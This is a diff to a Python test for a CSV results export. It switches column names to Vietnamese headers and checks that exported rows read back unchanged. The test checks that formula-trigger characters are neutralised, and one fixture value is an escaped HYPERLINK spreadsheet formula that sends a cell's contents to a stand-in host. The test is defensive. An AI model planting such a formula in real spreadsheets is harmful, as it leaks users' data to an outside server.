@@ -58,16 +58,18 @@ def test_results_csv_neutralises_text_keeps_numbers_and_reads_back(
     rows = list(csv.reader(io.StringIO(path.read_text("utf-8-sig")), delimiter=";" if decimal_comma else ","))
     cells = [cell for row in rows for cell in row]
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
-    names = {row[rows[0].index("name")] for row in rows[1:]}
+    names = {row[rows[0].index("Tên đơn vị")] for row in rows[1:]}
     assert '\'=HYPERLINK("http://x.example/"&A1,"x")' in names and "''=kept" in names
-    totals = [row[rows[0].index("total")] for row in rows[1:]]
+    totals = [row[rows[0].index("Tổng điểm")] for row in rows[1:]]
     assert all(Decimal(total.replace(",", ".")) >= 0 for total in totals)
-    keep = [rows[0].index(column) for column in ("unit", "group", "total", "name")]
+    keep = [rows[0].index(column) for column in ("Mã đơn vị", "Mã nhóm", "Tổng điểm", "Tên đơn vị")]
     totals_file = tmp_path / "tong.csv"  # the same cells, in the columns of a totals file
     with totals_file.open("w", encoding="utf-8", newline="") as handle:
         csv.writer(handle, delimiter=";").writerows([[row[i] for i in keep] for row in rows])
     back = read_totals(totals_file)
     assert sorted(entry["name"] for entry in back) == sorted(NAMES)
+    # the results file itself reads back the same, with its maxima
+    assert [{k: v for k, v in entry.items() if k != "max"} for entry in read_totals(path)] == back
 
 
 def test_negative_numbers_stay_numbers_in_csv(tmp_path: Path) -> None:
